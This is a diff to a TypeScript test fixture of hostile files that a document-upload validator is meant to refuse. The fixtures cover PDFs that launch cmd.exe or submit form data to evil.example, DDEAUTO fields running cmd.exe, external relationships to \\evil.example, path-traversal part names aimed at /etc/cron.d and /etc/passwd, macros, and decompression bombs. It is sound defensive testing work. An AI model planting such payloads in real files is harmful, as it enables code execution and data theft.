@@ -11,15 +11,8 @@ type Hostile = [
 const relation = (type: string, target: string, more = 'TargetMode="External"') =>
 	`<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" ${more}/></Relationships>`
 const page = zipOf([{ name: 'index.html', content: '<script>alert(1)</script>' }])
-const action = (of: string) => pdf(`3 0 obj\n<< /Type /Action ${of} >>\nendobj`)
-const written = (text: string) =>
-	zipOf([
-		{
-			name: '[Content_Types].xml',
-			content: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml',
-		},
-		{ name: 'word/document.xml', content: `<w:document>${text}</w:document>` },
-	])
+const action = (of: string) => pdf(`<< /Type /Action ${of} >>`)
+const written = (text: string) => docx([], undefined, text)
 
 /** A picture that says it is as large as a country. */
 const vast = () => {
@@ -30,7 +23,7 @@ const vast = () => {
 }
 
 /** A valid start, in which a packed stream hides what is looked for. */
-const hidden = (name: string) => pdf(packedObjects(`1 0 << /S ${name} >>`))
+const hidden = (name: string) => pdf(packedObjects(`<< /S ${name} >>`))
 
 /** Files that are refused wherever files are taken, each with why. */
 export const hostileFiles: Hostile[] = [
@@ -49,14 +42,16 @@ export const hostileFiles: Hostile[] = [
 	['a PDF that starts a program', 'pdf', action('/S /Launch /F (cmd.exe)'), 'active'],
 	['a PDF that sends what was typed', 'pdf', action('/S /SubmitForm /F (https://evil.example)'), 'active'],
 	['a PDF with a form of scripts', 'pdf', action('/XFA 4 0 R'), 'active'],
-	['a PDF that opens another', 'pdf', action('/S /GoToE'), 'active'],
+	['a PDF that opens another inside it', 'pdf', action('/S /GoToE'), 'nested'],
+	['a PDF with a link to a file', 'pdf', action('/S /URI /URI (file:///c:/a.exe)'), 'badLink'],
+	['a PDF that cannot be read', 'pdf', pdf('<< /S evil >>'), 'unreadable'],
 	['a PDF with a film', 'pdf', action('/Subtype /RichMedia'), 'active'],
 	['a PDF that unpacks without end', 'pdf', pdf(packedObjects(' '.repeat(51 * 1024 * 1024))), 'bomb'],
 	['a document with macros', 'docx', docx([{ name: 'word/vbaProject.bin', content: 'x' }]), 'macros'],
 	[
 		'a workbook with macros of the old kind',
 		'xlsx',
-		xlsx([{ name: 'xl/macrosheets/a.xml', content: 'x' }]),
+		xlsx([{ name: 'xl/macrosheets/a.xml', content: '<macrosheet/>' }]),
 		'macros',
 	],
 	[
@@ -82,7 +77,8 @@ export const hostileFiles: Hostile[] = [
 		docx([
 			{
 				name: 'word/_rels/settings.xml.rels',
-				content: "<ns:Relationship Target='\\\\evil.example\\a' TargetMode = 'External' Type='x/oleObject'/>",
+				content:
+					"<ns:Relationships xmlns:ns='http://schemas.openxmlformats.org/package/2006/relationships'><ns:Relationship Id='a' Target='\\\\evil.example\\a' TargetMode = 'External' Type='x/oleObject'/></ns:Relationships>",
 			},
 		]),
 		'linked',
@@ -96,8 +92,8 @@ export const hostileFiles: Hostile[] = [
 	[
 		'a workbook that asks a database',
 		'xlsx',
-		xlsx([{ name: 'xl/connections.xml', content: '<connections/>' }]),
-		'linked',
+		xlsx([{ name: 'xl/connections.xml', content: '<connections><connection id="1"/></connections>' }]),
+		'fetches',
 	],
 	[
 		'a document with a page inside',
@@ -111,13 +107,13 @@ export const hostileFiles: Hostile[] = [
 		written(
 			'<w:instrText>DDE</w:instrText><w:instrText xml:space="preserve">AUTO c:\\\\cmd.exe</w:instrText>',
 		),
-		'linked',
+		'fetches',
 	],
 	[
 		'a document with such a field in its name',
 		'docx',
 		written('<w:fldSimple w:instr="DDEAUTO cmd"/>'),
-		'linked',
+		'fetches',
 	],
 	['a part with a way out', 'docx', docx([{ name: '../../etc/cron.d/x', content: 'x' }]), 'damaged'],
 	['a part at the root of the disk', 'docx', docx([{ name: '/etc/passwd', content: 'x' }]), 'damaged'],
@@ -133,6 +129,8 @@ export const hostileFiles: Hostile[] = [
 		docx([{ name: 'word/a.xml', content: Buffer.alloc(8 * 1024 * 1024) }]),
 		'bomb',
 	],
+	['a document with an unknown part', 'docx', docx([{ name: 'word/a.dat', content: 'x' }]), 'unknownPart'],
+	['a document with a control', 'docx', written('<w:control w:name="a"/>'), 'controls'],
 	['a picture as large as a country', 'png', vast(), 'bomb'],
 	[
 		'a workbook with a password',
